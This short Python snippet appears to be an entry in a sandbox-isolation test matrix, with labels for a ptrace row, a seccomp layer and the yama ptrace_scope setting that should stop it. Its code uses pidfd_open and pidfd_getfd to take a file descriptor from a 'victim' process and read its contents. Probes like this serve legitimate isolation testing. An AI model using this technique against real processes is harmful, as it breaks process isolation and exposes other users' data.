# row: ptrace
# layer: seccomp
# crosses: marker
# with: syscalls
# attempt: pidfd_open
# host-stops-by: /proc/sys/kernel/yama/ptrace_scope


def main(target):
    file = syscall("pidfd_getfd", syscall("pidfd_open", target["victim"], 0), 0, 0)
    return os.pread(file, 100, 0).decode()
